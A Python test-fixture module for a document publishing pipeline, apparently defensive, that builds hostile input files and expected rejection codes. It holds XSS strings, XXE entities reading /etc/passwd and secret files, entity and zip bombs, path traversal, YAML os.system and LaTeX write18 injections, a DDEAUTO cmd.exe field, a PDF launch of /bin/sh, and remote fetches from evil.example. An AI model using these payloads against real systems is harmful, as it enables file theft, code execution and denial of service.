"""Manuscripts from an attacker. Tests replace `{up}` by the parent folder; no publication may show its files."""

from __future__ import annotations

import base64
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Mapping
from typing import NamedTuple

from tests import odt
from tests.word import OFFICE, field, p, package, picture, r

EVIL = "http://evil.example/x"
SECRET = "geheim-woord"  # noqa: S105 - a word to look for


class Hostile(NamedTuple):
    """A file, and what must happen."""

    name: str
    data: bytes
    codes: frozenset[str]
    """Codes of which at least one must be reported; empty for none."""
    published: bool
    """Whether its formats are published."""


FILES: dict[str, Hostile] = {}


def add(title: str, name: str, data: str | bytes, *codes: str, published: bool = True) -> None:
    """Add a file."""
    raw = data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data
    FILES[title] = Hostile(name, raw, frozenset(codes), published)


def rejected(title: str, name: str, data: str | bytes, *codes: str) -> None:
    """Add a file of which nothing is published."""
    add(title, name, data, *codes, published=False)


def zipped(members: Mapping[str, str | bytes], *, stored: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def png(width: int, height: int, data: bytes = b"") -> bytes:
    """Return a PNG file with the size that its header states."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(data))
        + chunk(b"IEND", b"")
    )


def uri(kind: str, data: str | bytes) -> str:
    raw = data.encode() if isinstance(data, str) else data
    return f"data:{kind};base64,{base64.b64encode(raw).decode()}"


HEAD = "---\ntitle: T\nlang: nl\n---\n\n"
ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{up}/secret.txt">]>'
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{k} '{f'&a{k - 1};' * 10}'>" for k in range(1, 12))
    + "]>"
)
BLOWUP = f"<!DOCTYPE x [<!ENTITY a '{'a' * 100_000}'>]>"

# Markdown

for address in (
    "../secret.png", "{up}/secret.png", "file://{up}/secret.png", "file:///etc/passwd", "/dev/zero", "/proc/self/environ",
    "..\\secret.png", "%2e%2e/secret.png", "link.png", "a.md", "//evil.example/x.png", "http://127.0.0.1:1/x.png",
    "ftp://evil.example/x.png", "jar:file:///x!/y", "data:image/png;base64,AAAA", "data:text/html,<b>x</b>", "\\\\\\\\host\\\\x.png",
):  # fmt: skip
    add(
        f"Markdown: image {address}",
        "a.md",
        f"{HEAD}Tekst ![b]({address}) staart.\n",
        "PUB-V037",
        "PUB-R010",
        "PUB-R011",
        "PUB-R012",
        "PUB-R013",
        "PUB-R014",
    )

for address in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "file:///etc/passwd", "\\x01javascript:alert(1)"):  # fmt: skip
    add(f"Markdown: link {address}", "a.md", f"{HEAD}Tekst [b](<{address}>) staart.\n")

for title, text in {
    "script": "<script>alert(1)</script>", "image with a handler": "<img src=x onerror=alert(1)>", "frame": f"<iframe src='{EVIL}'></iframe>",
    "base": f"<base href='{EVIL}'>", "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>", "style": f"<style>@import '{EVIL}';</style>",
    "form": f"<form action='{EVIL}'><input name=a></form>", "object": f"<object data='{EVIL}'></object>", "embed": f"<embed src='{EVIL}'>",
    "attachment": "<link rel=attachment href='file:///etc/passwd'>", "drawing": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "formula": "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>", "comment that ends early": "<!--> <script>alert(1)</script> -->",
    "attribute that ends early": "[a](x \"'><script>alert(1)</script>\")", "title of an image": '![a](x.png "\\"><script>alert(1)</script>")',
}.items():  # fmt: skip
    add(f"Markdown: {title}", "a.md", f"{HEAD}Tekst {text} staart.\n")

for title, front, codes in (
    ("object of Python", "title: !!python/object/apply:os.system ['touch gemaakt']", ("PUB-R005",)),
    ("include of YAML", "title: !include ../secret.txt", ("PUB-R005",)),
    ("style above", "style: ../secret.txt", ("PUB-S005",)),
    ("jurisdiction that is a device", "jurisdiction: /dev/zero", ("PUB-S005",)),
    ("very long key", f"{'k' * 100_000}: x", ("PUB-R005",)),
    ("nesting", f"title: {'[' * 5000}", ("PUB-R021",)),
    ("title with markup", "title: '</title><script>alert(1)</script>'", ()),
    ("language with markup", "lang: 'nl\"><script>alert(1)</script>'", ()),
    ("number that is too large", f"number: {'9' * 5000}", ("PUB-R005",)),
    ("date far away", "date: 999999-99-99", ()),
    ("key twice", "title: A\ntitle: B", ()),
    ("timestamp", "date: 2001-12-14t21:59:43.10-05:00", ()),
):  # fmt: skip
    text = (
        f"---\ntitle: T\n{front}\n---\n\nTekst.\n"
        if "title" not in front
        else f"---\n{front}\n---\n\nTekst.\n"
    )
    (rejected if codes else add)(f"Front matter: {title}", "a.md", text, *codes)

for title, text in {
    "nested quotes": ">" * 3000 + " x", "nested lists": "".join("  " * k + "* x\n" for k in range(400)), "emphasis": "*a **b " * 5000,
    "brackets": "[" * 20_000, "footnote in itself": "x[^a]\n\n[^a]: y[^a]\n", "footnotes in a circle": "x[^a]\n\n[^a]: y[^b]\n\n[^b]: z[^a]\n",
    "wide table": "|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n", "right-to-left override": "Tekst \u202egnp.exe\u202c staart",
    "zero width": "T\u200be\u200bk\u200bs\u200bt", "characters for private use": "Tekst \ue000\uf8ff", "many combining marks": "a" + "\u0301" * 20_000,
    "formula that repeats itself": "$\\def\\a{\\a\\a}\\a$", "formula that reads a file": "$\\input{../secret.txt}$", "formula that writes a file": "$\\immediate\\write18{touch gemaakt}$",
    "long word": "x" * 500_000, "many links": "[a](b) " * 5000, "many references": "".join(f"[{k}]: b{k}\n" for k in range(5000)),
}.items():  # fmt: skip
    if title in {"nested quotes", "nested lists", "brackets"}:
        rejected(f"Markdown: {title}", "a.md", f"{HEAD}{text}\n", "PUB-R021")
    else:
        add(f"Markdown: {title}", "a.md", f"{HEAD}{text}\n")
rejected(
    "Markdown: other encoding",
    "a.md",
    "Tekst".encode("utf-32"),
    "PUB-R004",
    "PUB-R007",
    "PUB-R008",
    "PUB-R009",
    "PUB-R006",
)
add("Markdown: null bytes", "a.md", b"\0" * 5000, "PUB-R018")
rejected("Markdown: empty", "a.md", b"", "PUB-R003")

# Images

for title, kind, data in (
    ("huge in its header", "png", png(60_000, 60_000)), ("largest size", "png", png(2**31 - 1, 2**31 - 1)), ("no width", "png", png(0, 5)),
    ("truncated JPEG", "jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"), ("truncated GIF", "gif", b"GIF89a\xff\xff\xff\xff\x00\x00\x00"),
    ("truncated WebP", "webp", b"RIFF\x24\x00\x00\x00WEBPVP8 "), ("bomb", "png", png(50_000, 10_000, b"\0" * 10_000_000)),
    ("script as PNG", "png", b"<script>alert(1)</script>"), ("ZIP after a PNG", "png", png(1, 1, b"\0" * 4) + zipped({"a": "x"})),
    ("PostScript", "png", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n"), ("Windows bitmap", "bmp", b"BM" + b"\xff" * 60), ("TIFF", "tiff", b"II*\0\xff\xff\xff\xff"),
    ("icon", "x-icon", b"\0\0\1\0\xff\xff" + b"\xff" * 40),
):  # fmt: skip
    add(f"Image: {title}", "a.md", f"{HEAD}Tekst ![b]({uri(f'image/{kind}', data)}) staart.\n")
for title, inside in {
    "entity": "&e;", "use bomb": "".join(f'<g id="g{k}">' + f'<use href="#g{k - 1}"/>' * 10 + "</g>" for k in range(1, 9)),
    "huge filter": '<filter id="f"><feGaussianBlur stdDeviation="1e30"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    "huge numbers": f'<rect width="{"9" * 400}" height="1"/>', "pattern in itself": '<pattern id="p" width="1" height="1"><rect fill="url(#p)" width="1" height="1"/></pattern><rect fill="url(#p)" width="9" height="9"/>',
    "image of a file": '<image href="file://{up}/secret.png" width="9" height="9"/>', "font of a file": '<style>@font-face{{font-family:x;src:url("file://{up}/secret.txt")}}</style>',
}.items():  # fmt: skip
    start = ENTITY if title == "entity" else ""
    drawing = f'{start}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><g id="g0"><rect width="1" height="1"/></g>{inside}</svg>'
    add(f"Drawing: {title}", "a.md", f"{HEAD}Tekst ![b]({uri('image/svg+xml', drawing)}) staart.\n")

# Word

W = p(r("Tekst"))
_, PICTURE, _ = picture()


def external(kind: str, target: str) -> str:
    return f'<Relationship Id="x1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


BLIP = '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="x1" r:embed="x1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
for target in (EVIL, "file:///etc/passwd", "../../secret.png", "{up}/secret.png", "\\\\host\\share\\x.png"):
    add(f"Word: linked image {target}", "a.docx", package(W + BLIP, links=external("image", target)))
add("Word: remote template", "a.docx", package(W, links=external("attachedTemplate", f"{EVIL}.dotm")))
add("Word: external frame", "a.docx", package(W, links=external("frame", EVIL)))
add("Word: external object", "a.docx", package(W, links=external("oleObject", "file:///etc/passwd")))
for instruction in (
    'INCLUDETEXT "{up}/secret.txt"',
    f'INCLUDEPICTURE "{EVIL}"',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    "MACROBUTTON x y",
    'HYPERLINK "javascript:alert(1)"',
    'LINK Excel.Sheet "{up}/x.xlsx"',
    'IMPORT "/etc/passwd"',
    "QUOTE 106 97",
):
    add(
        f"Word: field {instruction.partition(' ')[0]}",
        "a.docx",
        package(W + f"<w:p>{field(instruction.replace(chr(34), '&quot;'), 'x')}</w:p>"),
    )
add(
    "Word: alternative chunk",
    "a.docx",
    package(
        W + '<w:altChunk r:id="x1"/>',
        {"word/x.html": "<script>alert(1)</script>"},
        links=f'<Relationship Id="x1" Type="{OFFICE}/aFChunk" Target="x.html"/>',
    ),
)
add(
    "Word: macro",
    "a.docx",
    package(
        W,
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 600},
        links='<Relationship Id="x1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
    ),
)
add(
    "Word: numbers that are too large",
    "a.docx",
    package('<w:p><w:pPr><w:ind w:left="99999999999999999999"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'),
)
add(
    "Word: table of many columns",
    "a.docx",
    package(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>' + W
    ),
)
add(
    "Word: nested tables",
    "a.docx",
    package("<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl><w:p/>" * 60),
)
rejected(
    "Word: nested controls",
    "a.docx",
    package("<w:sdt><w:sdtContent>" * 150 + W + "</w:sdtContent></w:sdt>" * 150),
    "PUB-R009",
)


def with_part(name: str, data: str | bytes, base: bytes | None = None) -> bytes:
    """Return a Word file with one member replaced or added."""
    with zipfile.ZipFile(io.BytesIO(base or package(W))) as archive:
        members: dict[str, str | bytes] = {n: archive.read(n) for n in archive.namelist()}
    return zipped({**members, name: data})


BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{0}</w:t></w:r></w:p></w:body></w:document>'
ARCHIVE_CODES = (
    "PUB-R048",
    "PUB-R009",
    "PUB-R021",
    "PUB-R030",
    "PUB-R031",
    "PUB-R049",
    "PUB-R007",
    "PUB-R008",
)
add(
    "Word: entity of a file",
    "a.docx",
    with_part("word/document.xml", ENTITY + BODY.replace("{0}", "a &e; b")),
    *ARCHIVE_CODES,
    published=False,
)
rejected(
    "Word: entities that multiply",
    "a.docx",
    with_part("word/document.xml", LAUGHS + BODY.replace("{0}", "&a11;")),
    *ARCHIVE_CODES,
)
rejected(
    "Word: one long entity",
    "a.docx",
    with_part("word/document.xml", BLOWUP + BODY.replace("{0}", "&a;" * 5000)),
    *ARCHIVE_CODES,
)
rejected(
    "Word: deep XML",
    "a.docx",
    with_part("word/document.xml", BODY.replace("{0}", "</w:t><w:x>" * 100_000)),
    *ARCHIVE_CODES,
)
rejected(
    "Word: archive that unpacks to 300 MB",
    "a.docx",
    with_part("word/document.xml", b"\0" * 300_000_000),
    *ARCHIVE_CODES,
)
rejected("Word: damaged archive", "a.docx", package(W)[:-40], *ARCHIVE_CODES)
rejected("Word: only a signature", "a.docx", b"PK\x03\x04", *ARCHIVE_CODES)
add("Word: member above", "a.docx", with_part("../../gemaakt", SECRET))
add("Word: absolute member", "a.docx", with_part("/gemaakt", SECRET))
rejected("Word: no document", "a.docx", zipped({"[Content_Types].xml": "<x/>"}), *ARCHIVE_CODES)
rejected(
    "Word: old binary file", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000, *ARCHIVE_CODES
)

# OpenDocument

for target in (EVIL, "file://{up}/secret.png", "../../secret.png", "../secret.png"):
    frame = f'<draw:frame draw:name="b" svg:width="1cm" svg:height="1cm"><draw:image xlink:href="{target}"/></draw:frame>'
    add(f"OpenDocument: image {target}", "a.fodt", odt.document(odt.p("Tekst ", frame)))
add(
    "OpenDocument: script",
    "a.fodt",
    odt.document(
        odt.p(
            'Tekst <text:script xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" script:language="JavaScript">alert(1)</text:script>'
        )
    ),
)
add(
    "OpenDocument: script address",
    "a.fodt",
    odt.document(odt.p('<text:a xlink:href="javascript:alert(1)">x</text:a>')),
)
add(
    "OpenDocument: macro address",
    "a.fodt",
    odt.document(odt.p('<text:a xlink:href="vnd.sun.star.script:x?language=Basic">x</text:a>')),
)
add(
    "OpenDocument: section of another file",
    "a.fodt",
    odt.document(
        '<text:section text:name="s"><text:section-source xlink:href="{up}/secret.txt"/>'
        + odt.p("Tekst")
        + "</text:section>"
    ),
)
add(
    "OpenDocument: many repeated cells",
    "a.fodt",
    odt.document(
        '<table:table><table:table-column table:number-columns-repeated="2000000000"/><table:table-row table:number-rows-repeated="2000000000"><table:table-cell table:number-columns-repeated="2000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
    ),
)
add(
    "OpenDocument: many spaces",
    "a.fodt",
    odt.document(odt.p('Tekst<text:s text:c="2000000000"/>staart')),
)
rejected(
    "OpenDocument: entity of a file",
    "a.fodt",
    ENTITY
    + "<office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'>&e;</office:document>",
    *ARCHIVE_CODES,
)
rejected(
    "OpenDocument: encrypted",
    "a.odt",
    zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": b"\x01\x02",
            "META-INF/manifest.xml": "<x/>",
        }
    ),
    *ARCHIVE_CODES,
)

# Web pages

for title, text in {
    "script": "<script>alert(1)</script>", "handlers": "<p onclick=alert(1) onload=alert(1)>x</p>", "frame": f"<iframe srcdoc='<script>alert(1)</script>' src={EVIL}></iframe>",
    "image set": f"<img srcset='{EVIL} 2x' src='../secret.png'>", "base": f"<base href='{EVIL}/'><a href=x>y</a>", "picture": f"<picture><source srcset={EVIL}></picture>",
    "video": f"<video src={EVIL} poster={EVIL} onerror=alert(1)></video>", "template": "<template><script>alert(1)</script></template>", "noscript": "<noscript><img src=x onerror=alert(1)></noscript>",
    "drawing": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "formula": "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "object": f"<object data={EVIL}><embed src={EVIL}></object>", "style": f"<p style='background:url({EVIL})'>x</p><style>p{{background:url({EVIL})}}</style>",
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->x", "unclosed": "<p>x<" + "a<" * 20_000, "attributes": "<p " + " ".join(f"a{k}=b" for k in range(900)) + ">x</p>",
    "inclusion": "<!--#include file='../secret.txt'-->x", "plain text": "<plaintext><script>alert(1)</script>", "ping": f"<a href=x ping={EVIL}>x</a>", "refresh": f"<meta http-equiv=refresh content='0;{EVIL}'>x",
}.items():  # fmt: skip
    add(
        f"Web page: {title}",
        "a.html",
        f"<!DOCTYPE html><html lang=nl><title>T</title><body><p>Tekst</p>{text}</body></html>",
    )
add("Web page: deep nesting", "a.html", "<div>" * 100_000 + "x", *ARCHIVE_CODES, published=False)
add("Web page: UTF-7", "a.html", b"<meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>")

rejected(
    "Web page: many attributes",
    "a.html",
    "<p>x<p " + " ".join(f"a{k}=b" for k in range(50_000)) + ">y",
    "PUB-R009",
)

# EPUB

CONTAINER = '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles><rootfile full-path="{0}" media-type="application/oebps-package+xml"/></rootfiles></container>'
OPF = '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>T</dc:title><dc:language>nl</dc:language><dc:identifier id="i">x</dc:identifier></metadata><manifest><item id="a" href="{0}" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>'


def epub(page: str, href: str = "a.xhtml", root: str = "x.opf") -> bytes:
    return zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": CONTAINER.replace("{0}", root),
            "x.opf": OPF.replace("{0}", href),
            "a.xhtml": page,
        }
    )


XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title></head><body>{0}</body></html>'
add("EPUB: script", "a.epub", epub(XHTML.replace("{0}", "<p>x</p><script>alert(1)</script>")))
add(
    "EPUB: image above",
    "a.epub",
    epub(XHTML.replace("{0}", "<p>x <img src='../../secret.png' alt='b'/></p>")),
)
rejected("EPUB: page above", "a.epub", epub(XHTML, "../../secret.txt"), *ARCHIVE_CODES)
rejected("EPUB: remote page", "a.epub", epub(XHTML, EVIL), *ARCHIVE_CODES)
rejected("EPUB: package outside", "a.epub", epub(XHTML, root="../../secret.txt"), *ARCHIVE_CODES)
add(
    "EPUB: entity of a file",
    "a.epub",
    epub(ENTITY + XHTML.replace("{0}", "<p>a &e; b</p>")),
)
add(
    "EPUB: entities that multiply",
    "a.epub",
    epub(LAUGHS + XHTML.replace("{0}", "<p>&a11;</p>")),
)

# Akoma Ntoso, officiele-publicatie, JSON

AKN = '<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"><doc name="x"><meta/><mainBody>{0}</mainBody></doc></akomaNtoso>'
rejected(
    "Akoma Ntoso: entity of a file", "a.xml", ENTITY + AKN.replace("{0}", "<p>a &e; b</p>"), *ARCHIVE_CODES
)
rejected(
    "Akoma Ntoso: entities that multiply",
    "a.xml",
    LAUGHS + AKN.replace("{0}", "<p>&a11;</p>"),
    *ARCHIVE_CODES,
)
rejected("Akoma Ntoso: deep", "a.xml", AKN.replace("{0}", "<hcontainer>" * 50_000), *ARCHIVE_CODES)
add(
    "Akoma Ntoso: style sheet",
    "a.xml",
    f'<?xml-stylesheet href="{EVIL}" type="text/xsl"?>' + AKN.replace("{0}", "<p>x</p>"),
)
add("Akoma Ntoso: image above", "a.xml", AKN.replace("{0}", '<p>x <img src="../secret.png"/></p>'))
rejected(
    "officiele-publicatie: entity of a file",
    "a.op.xml",
    ENTITY + "<officiele-publicatie>&e;</officiele-publicatie>",
    *ARCHIVE_CODES,
)
rejected("XML: other format", "a.xml", "<other/>", "PUB-R007")
rejected("JSON: nesting", "a.json", "[" * 100_000, "PUB-R009", "PUB-R021", "PUB-R049")
rejected(
    "JSON: wrong types", "a.json", json.dumps({"metadata": [], "blocks": {"a": 1}}), "PUB-R009", "PUB-R049"
)
add(
    "JSON: markup in identifiers",
    "a.json",
    json.dumps(
        {
            "metadata": {"title": "<script>alert(1)</script>"},
            "blocks": [
                {
                    "t": "paragraph",
                    "id": '"><script>alert(1)</script>',
                    "inlines": [{"t": "text", "text": "x"}],
                }
            ],
        }
    ),
)

# Formats read through pandoc

add(
    "LaTeX: input of a file",
    "a.tex",
    "\\documentclass{article}\\begin{document}Tekst \\input{../secret.txt}\\end{document}",
)
add(
    "LaTeX: command",
    "a.tex",
    "\\documentclass{article}\\begin{document}Tekst \\immediate\\write18{touch gemaakt}\\end{document}",
)
rejected(
    "LaTeX: macro that repeats itself",
    "a.tex",
    "\\def\\a{\\a\\a}\\begin{document}\\a\\end{document}",
    "PUB-R009",
)
add(
    "reStructuredText: inclusion",
    "a.rst",
    "Tekst\n\n.. include:: ../secret.txt\n\n.. raw:: html\n   :file: ../secret.txt\n",
)
add("reStructuredText: script", "a.rst", "Tekst\n\n.. raw:: html\n\n   <script>alert(1)</script>\n")
add("Org: inclusion", "a.org", 'Tekst\n\n#+INCLUDE: "../secret.txt"\n')
add(
    "RTF: object",
    "a.rtf",
    "{\\rtf1 Tekst {\\object\\objemb{\\*\\objdata 0105}} {\\field{\\*\\fldinst INCLUDETEXT ../secret.txt}{\\fldrslt x}}}",
)
rejected("RTF: depth", "a.rtf", "{\\rtf1 " + "{" * 100_000, *ARCHIVE_CODES)

# PDF

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R{0}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>endobj\n4 0 obj<</Length {1}>>stream\n{2}\nendstream endobj\n5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\n"


def pdf(catalog: bytes = b"", content: bytes = b"BT /F 12 Tf 20 100 Td (Tekst) Tj ET") -> bytes:
    return PDF.replace(b"{0}", catalog).replace(b"{1}", str(len(content)).encode()).replace(b"{2}", content)


add("PDF: script", "a.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"))
add("PDF: program", "a.pdf", pdf(b"/OpenAction<</S/Launch/F(/bin/sh)>>"))
add("PDF: address", "a.pdf", pdf(b"/OpenAction<</S/URI/URI(http://evil.example/x)>>"))
rejected("PDF: many operators", "a.pdf", pdf(content=b"BT /F 12 Tf (a) Tj ET\n" * 100_000), "PUB-R031")
rejected("PDF: damaged", "a.pdf", b"%PDF-1.7\n" + b"\xff" * 3000, *ARCHIVE_CODES)
rejected("PDF: only a header", "a.pdf", b"%PDF-1.7", *ARCHIVE_CODES)
